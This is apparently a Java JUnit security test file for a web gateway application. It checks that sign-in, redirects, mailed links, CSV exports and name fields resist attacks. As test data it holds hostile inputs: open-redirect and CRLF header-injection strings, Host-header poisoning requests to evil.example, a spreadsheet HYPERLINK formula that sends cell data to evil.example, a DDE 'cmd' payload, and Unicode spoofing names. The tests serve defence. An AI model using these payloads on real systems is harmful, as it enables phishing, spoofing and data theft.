package ai.ominigate.customer.door;

import static org.assertj.core.api.Assertions.assertThat;

import ai.ominigate.RunningOminiGate;
import ai.ominigate.RunningOminiGate.Answer;
import ai.ominigate.customer.SharedOminiGate;
import ai.ominigate.customer.profile.Newcomer;
import ai.ominigate.metering.CallsOfTests;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.micronaut.http.HttpMethod;
import io.micronaut.web.router.Router;
import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.UUID;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What people try who want to get at others, or to make them believe something: refused, with a message that says why. */
@ExtendWith(SharedOminiGate.class)
class CustomerAttacksTest {
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String MEGABYTE = "a".repeat(1_000_000);

    private static RunningOminiGate ominigate;
    private static Newcomer jo;

    @BeforeAll
    static void start() throws Exception {
        ominigate = SharedOminiGate.get();
        jo = Newcomer.signedIn(ominigate);
    }

    /** Somebody has a victim's browser keep a session of theirs before the victim signs in, on the page. */
    @Test
    void signingInOnThePageBeginsANewSessionAndEndsTheOneThatWasThere() throws Exception {
        Newcomer attacker = Newcomer.signedIn(ominigate);
        Newcomer victim = Newcomer.signedIn(ominigate);

        Answer in = form(
                "/sign-in",
                Map.of("email", victim.email(), "password", Newcomer.PASSWORD),
                Map.of("Cookie", "session=" + attacker.cookie()));

        assertThat(in.status()).isEqualTo(303);
        assertThat(in.response().headers().firstValue("set-cookie").orElseThrow())
                .startsWith("session=")
                .doesNotContain(Objects.requireNonNull(attacker.cookie()));
        assertThat(attacker.get("/me").status()).isEqualTo(401);
    }

    /** A session that a visitor brings along is never taken over, whatever it is. */
    @Test
    void aSessionThatSomebodyMadeUpIsNotTakenOver() throws Exception {
        String planted = "cs-" + "p".repeat(43);

        Answer in = form(
                "/sign-in",
                Map.of("email", jo.email(), "password", Newcomer.PASSWORD),
                Map.of("Cookie", "session=" + planted));

        assertThat(in.response().headers().firstValue("set-cookie").orElseThrow())
                .doesNotContain(planted);
        assertThat(ominigate
                        .send("GET", "/api/v1/me", "", Map.of("Cookie", "session=" + planted))
                        .status())
                .isEqualTo(401);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "//evil.example",
                "///evil.example",
                "https://evil.example",
                "/\\evil.example",
                "\\\\evil.example",
                "/\t/evil.example",
                "/ /evil.example",
                "@evil.example",
                "javascript:alert(1)",
                "/%0d%0aSet-Cookie:x=y\r\nX: y"
            })
    void nobodyIsSentToAnotherHost(String to) throws Exception {
        String typed = URLEncoder.encode(to, StandardCharsets.UTF_8);
        Answer already = ominigate.send(
                "GET", "/sign-in?to=" + typed, "", Map.of("Accept", "text/html", "Cookie", "session=" + jo.cookie()));
        Answer language = form("/language", Map.of("language", "en", "back", to), Map.of());
        Answer in = form("/sign-in", Map.of("email", jo.email(), "password", Newcomer.PASSWORD, "to", to), Map.of());

        for (Answer answer : List.of(already, language, in)) {
            assertThat(answer.status()).isEqualTo(303);
            assertThat(answer.response().headers().firstValue("location").orElseThrow())
                    .isIn("/dashboard", "/");
            assertThat(answer.response().headers().map()).doesNotContainKey("x");
        }
    }

    /** Who asks for a letter to somebody else must not be the one who says where its link leads. */
    @ParameterizedTest
    @ValueSource(strings = {"PASSWORD_RESET", "SIGN_UP_CONFIRM"})
    void linksInLettersLeadToOurOwnAddressWhateverTheRequestSays(String template) throws Exception {
        Newcomer victim = template.equals("PASSWORD_RESET") ? jo : Newcomer.at(ominigate);
        String body = template.equals("PASSWORD_RESET")
                ? "{\"email\":\"%s\"}".formatted(victim.email())
                : "{\"email\":\"%s\",\"password\":\"%s\"}".formatted(victim.email(), Newcomer.PASSWORD);
        String path = template.equals("PASSWORD_RESET") ? "/api/v1/password/reset" : "/api/v1/sign-up";

        assertThat(raw(path, body)).startsWith("HTTP/1.1 202");

        assertThat(link(victim.email(), template))
                .startsWith(ominigate.application().baseUrl().toString())
                .doesNotContain("evil");
    }

    @Test
    void anInvitationLeadsToOurOwnAddressToo() throws Exception {
        Newcomer guest = Newcomer.at(ominigate);
        jo.send(
                "POST",
                "/team/invitations",
                Map.of("email", guest.email(), "role", "DEVELOPER"),
                Map.of("X-Forwarded-Host", "evil.example", "Forwarded", "host=evil.example"));

        assertThat(link(guest.email(), "MEMBER_INVITED"))
                .startsWith(ominigate.application().baseUrl().toString());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1+1)",
                "＝1+1",
                "a;=1+1",
                "  =1+1"
            })
    void aNameIsNoFormulaInAFile(String name) throws Exception {
        Newcomer owner = Newcomer.signedIn(ominigate);
        String id = json("POST", "/keys", Map.of("name", name), owner)
                .json()
                .path("key")
                .path("id")
                .asText();
        new CallsOfTests()
                .call(
                        account(owner),
                        UUID.fromString(id),
                        "demo-echo",
                        Instant.now().minusSeconds(60),
                        1)
                .store(ominigate.database());

        Answer file = ominigate.send("GET", "/usage/calls.csv", "", Map.of("Cookie", "session=" + owner.cookie()));

        assertThat(file.status()).isEqualTo(200);
        // Programs split at one of these, whatever the file says.
        assertThat(file.response().body().lines().skip(1).toList())
                .allSatisfy(line -> assertThat(line.split("[,;\t]"))
                        .noneMatch(cell -> cell.replace("\"", "").strip().matches("[=+@＝＋－＠-].*")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "invoice\u202Efdp.exe",
                "pay\u2066ment\u2069",
                "Pro\u200Bduction",
                "Pro\u200Dduction",
                "\u2060Production",
                "Prod\u00ADuction",
                "\u3164",
                "line\u2028break",
                "nul\u0000",
                "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306 flood",
                "tag\uDB40\uDC41"
            })
    void namesThatReadOtherwiseThanTheyAreWrittenAreRefused(String name) throws Exception {
        Answer key = json("POST", "/keys", Map.of("name", name), jo);
        Answer profile = json("PUT", "/me", Map.of("language", "en", "name", name), jo);
        Answer guest =
                json("POST", "/team/invitations", Map.of("email", "x" + name + "@example.com", "role", "BILLING"), jo);
        Answer page = form("/keys", Map.of("name", name), cookie(jo));
        Answer settings = form("/settings/profile", Map.of("language", "en", "company", name), cookie(jo));

        for (Answer answer : List.of(key, profile, guest)) {
            assertThat(answer.status()).as(answer.response().body()).isEqualTo(400);
            assertThat(answer.json().path("detail").asText()).isNotBlank();
        }
        for (Answer answer : List.of(page, settings)) {
            assertThat(answer.status()).isEqualTo(400);
            assertThat(page(answer).select("[role=alert]").text()).isNotBlank();
        }
        assertThat(jo.get("/keys").json().path("items")).isEmpty();
        assertThat(jo.get("/me").json().has("name")).isFalse();
    }

    /** Letters that look like others, accents, right-to-left scripts, Han and emoji are how people write. */
    @ParameterizedTest
    @ValueSource(strings = {"Zoë Müller", "Ｐｒｏ", "раypal", "محمد", "陈小明", "Nguyễn Ánh", "กิ้งก่า", "Ops 🚀"})
    void namesThatPeopleHaveAreTaken(String name) throws Exception {
        Newcomer somebody = Newcomer.signedIn(ominigate);

        assertThat(json("POST", "/keys", Map.of("name", name), somebody).status())
                .isEqualTo(201);
        assertThat(json("PUT", "/me", Map.of("language", "en", "name", name), somebody)
                        .status())
                .isEqualTo(200);
        assertThat(Jsoup.parse(ominigate
                                .send("GET", "/keys", "", cookie(somebody))
                                .response()
                                .body())
                        .text())
                .contains(name);
    }

    /** Whatever the page and whatever the field: the form is refused before anything looks at it. */
    @Test
    void aFieldOfAMegabyteIsRefusedOnEveryPage() throws Exception {
        List<String> findings = new ArrayList<>();
        for (CustomerRoute route : CustomerRoute.all(router())) {
            if (route.isPage() && route.method() == HttpMethod.POST && route.takesFields()) {
                String path = route.template()
                        .replaceAll("\\{id}", UUID.randomUUID().toString())
                        .replaceAll("\\{\\w+}", "none");
                Answer answer = form(path, Map.of("name", MEGABYTE), cookie(jo));
                String said = page(answer).select("main").text();
                boolean ofNobody = route.namesSomething() && answer.status() == 404;
                if (!ofNobody && (answer.status() != 400 || !said.contains("20000 characters"))) {
                    findings.add("%s: %d %s".formatted(route, answer.status(), said));
                }
            }
        }
        assertThat(findings).isEmpty();
    }

    /** Every text of every command, one after the other. */
    @Test
    void aTextOfAMegabyteIsRefusedByEveryCommand() throws Exception {
        List<String> findings = new ArrayList<>();
        for (CustomerRoute route : CustomerRoute.all(router())) {
            if (route.isPage() || route.json() == null) {
                continue;
            }
            JsonNode golden = JSON.readTree(route.body(Map.of()));
            List<String> texts = new ArrayList<>();
            golden.fieldNames().forEachRemaining(name -> {
                if (golden.path(name).isTextual()) {
                    texts.add(name);
                }
            });
            for (String text : texts) {
                ObjectNode wish = golden.deepCopy();
                wish.put(text, MEGABYTE);
                Answer answer = ominigate.send(
                        route.method().name(),
                        route.template().replaceAll("\\{id}", UUID.randomUUID().toString()),
                        wish.toString(),
                        headers(jo));
                String detail = answer.json().path("detail").asText();
                if (answer.status() < 400
                        || answer.status() >= 500 && answer.status() != 503
                        || detail.isBlank()
                        || answer.response().body().length() > 2_000) {
                    findings.add("%s, %s: %d %s".formatted(route, text, answer.status(), detail));
                }
            }
        }
        assertThat(findings).isEmpty();
    }

    private static Router router() {
        return ominigate.application().context().getBean(Router.class);
    }

    private static UUID account(Newcomer who) throws Exception {
        return UUID.fromString(who.get("/me").json().path("account").asText());
    }

    private static Document page(Answer answer) {
        return Jsoup.parse(answer.response().body());
    }

    private static Map<String, String> cookie(Newcomer who) {
        return Map.of("Cookie", "session=" + who.cookie());
    }

    private static Map<String, String> headers(Newcomer who) {
        return Map.of(
                "Cookie",
                "session=" + who.cookie(),
                "Sec-Fetch-Site",
                "same-origin",
                "If-Match",
                "\"1\"",
                "X-Forwarded-For",
                "198.18.200." + (int) (Math.random() * 250 + 1));
    }

    private static Answer json(String method, String path, Map<String, String> fields, Newcomer who) throws Exception {
        return ominigate.send(method, "/api/v1" + path, JSON.writeValueAsString(fields), headers(who));
    }

    private static Answer form(String path, Map<String, String> fields, Map<String, String> headers) throws Exception {
        StringBuilder body = new StringBuilder();
        fields.forEach((name, value) -> body.append(body.isEmpty() ? "" : "&")
                .append(name)
                .append('=')
                .append(URLEncoder.encode(value, StandardCharsets.UTF_8)));
        Map<String, String> all = new HashMap<>(Map.of("Accept", "text/html", "Sec-Fetch-Site", "same-origin"));
        all.putAll(headers);
        return ominigate.sendForm(path, body.toString(), all);
    }

    /** A request that says that it is for another host, in every way there is. */
    private static String raw(String path, String body) throws IOException {
        URI base = ominigate.application().baseUrl();
        try (Socket socket = new Socket(base.getHost(), base.getPort())) {
            socket.getOutputStream().write("""
                            POST %s HTTP/1.1
                            Host: evil.example
                            X-Forwarded-Host: evil.example
                            X-Forwarded-Proto: https
                            Forwarded: host=evil.example;proto=https
                            X-Forwarded-For: 198.18.201.7
                            Sec-Fetch-Site: same-origin
                            Content-Type: application/json
                            Content-Length: %d
                            Connection: close

                            %s""".formatted(path, body.length(), body)
                    .replace("\n", "\r\n")
                    .getBytes(StandardCharsets.UTF_8));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static String link(String recipient, String template) throws SQLException {
        try (Connection connection = ominigate.database().dataSource().getConnection();
                PreparedStatement query = connection.prepareStatement("""
                SELECT "values"->>'link' FROM mail.letter WHERE recipient = ? AND template = ? ORDER BY id DESC LIMIT 1
                """)) {
            query.setString(1, recipient);
            query.setString(2, template);
            try (ResultSet row = query.executeQuery()) {
                assertThat(row.next())
                        .as("a letter %s to %s", template, recipient)
                        .isTrue();
                return row.getString(1);
            }
        }
    }
}
